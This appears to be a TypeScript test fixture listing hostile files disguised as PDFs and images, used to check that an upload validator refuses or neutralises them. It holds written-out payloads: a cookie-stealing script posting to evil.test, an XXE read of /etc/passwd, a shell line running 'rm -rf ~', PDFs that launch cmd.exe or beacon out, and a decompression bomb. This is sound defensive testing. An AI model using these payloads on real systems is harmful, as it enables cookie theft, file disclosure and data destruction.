import { deflateSync } from 'node:zlib'
import type { FileKind } from '../../src/shared/domain/fileKinds.ts'

/** What somebody may send in place of a photo or a PDF; `refused` by its content, or kept and shown as harmless pictures at most. */
export type HostileFile = {
  readonly what: string
  readonly said: FileKind
  readonly body: Buffer
  readonly isRefused: boolean
}

const SCRIPT = '<script>fetch("https://evil.test/?"+document.cookie)</script>'
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'
const latin1 = (text: string): Buffer => Buffer.from(text, 'latin1')
const PNG = latin1('\x89PNG\r\n\x1a\n')
const JPEG = latin1('\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0')
const HEIC = latin1('\0\0\0\x18ftypheic\0\0\0\0mif1heic')
const ZIP = latin1('PK\x03\x04\x14\0\0\0\x08\0')

function chunk(type: string, body: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(body.length)
  return Buffer.concat([length, Buffer.from(type), body, Buffer.alloc(4)])
}
function pngOf(width: number, height: number, body: Buffer): Buffer {
  const size = Buffer.alloc(13)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  size.set([8, 2, 0, 0, 0], 8)
  return Buffer.concat([PNG, chunk('IHDR', size), chunk('IDAT', body), chunk('IEND', Buffer.alloc(0))])
}
function pdfWith(catalog: string, more = ''): Buffer {
  return latin1(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n${more}trailer\n<< /Root 1 0 R /Size 9 >>\n%%EOF\n`,
  )
}
const flate = (body: Buffer): string =>
  `<< /Filter /FlateDecode /Length ${body.length} >>\nstream\n${body.toString('latin1')}\nendstream`

const refused = (said: FileKind, what: string, body: Buffer | string): HostileFile => ({
  ...{ what, said, body: typeof body === 'string' ? latin1(body) : body },
  isRefused: true,
})
const kept = (said: FileKind, what: string, body: Buffer): HostileFile => ({ what, said, body, isRefused: false })

export const HOSTILE_FILES: readonly HostileFile[] = [
  refused('pdf', 'HTML as a PDF', `<!doctype html>${SCRIPT}`),
  refused('pdf', 'HTML behind spaces', `   \n<html>${SCRIPT}`),
  refused('png', 'SVG as a PNG', `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`),
  refused(
    'png',
    'SVG behind its declaration',
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`,
  ),
  refused('jpeg', 'EICAR', EICAR),
  refused('pdf', 'an archive', ZIP),
  refused('pdf', 'an archive that holds a PDF', Buffer.concat([ZIP, latin1('%PDF-1.7')])),
  refused('jpeg', 'a GIF with a script in its comment', `GIF89a/*${SCRIPT}*/=1;`),
  refused('jpeg', 'a program for Windows', 'MZ\x90\0\x03\0\0\0'),
  refused('jpeg', 'a program for Linux', '\x7fELF\x02\x01\x01'),
  refused('png', 'a script of a shell', '#!/bin/sh\nrm -rf ~\n'),
  refused('pdf', 'PostScript', '%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
  refused('pdf', 'a document of Word', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'),
  refused('pdf', 'RTF', '{\\rtf1\\ansi{\\object\\objdata}}'),
  refused('jpeg', 'a TIFF', 'II*\0\x08\0\0\0'),
  refused('jpeg', 'a WebP', 'RIFF\0\0\0\0WEBPVP8 '),
  refused('heic', 'a film', '\0\0\0\x18ftypisom\0\0\0\0isomavc1'),
  refused('heic', 'an AVIF', '\0\0\0\x18ftypavif\0\0\0\0mif1avif'),
  refused('heic', 'a HEIC without a brand of pictures', '\0\0\0\x10ftypmif1\0\0\0\0heicheic'),
  refused('png', 'a PNG without its first byte', PNG.subarray(1)),
  refused('jpeg', 'a JPEG of two bytes', '\xff\xd8'),
  refused('pdf', 'a PDF a kilobyte in', `${' '.repeat(1_024)}%PDF-1.7`),
  refused('pdf', 'a PDF behind a GIF', 'GIF89a%PDF-1.7'),
  refused('jpeg', 'a PNG that says it is a JPEG', pngOf(1, 1, deflateSync(Buffer.alloc(4)))),
  refused('pdf', 'a JPEG that says it is a PDF', Buffer.concat([JPEG, latin1('%PDF-1.7')])),
  refused('png', 'nothing but zeros', Buffer.alloc(4_000)),
  refused('jpeg', 'text from right to left', '\u202Egpj.exe'),
  kept('pdf', 'a PDF that is HTML as well', Buffer.concat([pdfWith(''), latin1(`<html>${SCRIPT}</html>`)])),
  kept(
    'pdf',
    'a PDF with a script that opens with it',
    pdfWith(`/OpenAction << /S /JavaScript /JS (app.launchURL\\("https://evil.test"\\)) >>`),
  ),
  kept('pdf', 'a PDF that starts a program', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>')),
  kept('pdf', 'a PDF that fetches', pdfWith('/OpenAction << /S /URI /URI (https://evil.test/beacon) >>')),
  kept(
    'pdf',
    'a PDF with a form of XFA',
    pdfWith('/AcroForm << /XFA 4 0 R >>', `4 0 obj\n${flate(deflateSync(latin1(`<xdp>${SCRIPT}</xdp>`)))}\nendobj\n`),
  ),
  kept(
    'pdf',
    'a PDF whose pages go in circles',
    latin1(
      '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] /Count 999999 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF',
    ),
  ),
  kept(
    'pdf',
    'a PDF that is a bomb',
    pdfWith('', `4 0 obj\n${flate(deflateSync(Buffer.alloc(50_000_000)))}\nendobj\n`),
  ),
  kept('pdf', 'a PDF of its head alone', latin1('%PDF-1.7')),
  kept('png', 'a PNG of a thousand megapixels', pngOf(65_000, 65_000, deflateSync(Buffer.alloc(1_000_000)))),
  kept('png', 'a PNG that is cut short', Buffer.concat([PNG, latin1('\0\0\0\rIHDR')])),
  kept('png', 'a PNG with an archive behind it', Buffer.concat([pngOf(1, 1, deflateSync(Buffer.alloc(4))), ZIP])),
  kept('jpeg', 'a JPEG that is HTML as well', Buffer.concat([JPEG, latin1(`\xff\xfe\0\xff<html>${SCRIPT}`)])),
  kept(
    'jpeg',
    'a JPEG of 65,535 by 65,535',
    Buffer.concat([JPEG, latin1('\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03'), Buffer.alloc(300)]),
  ),
  kept('heic', 'a HEIC with a long tail', Buffer.concat([HEIC, Buffer.alloc(1_000_000, 'tail')])),
]
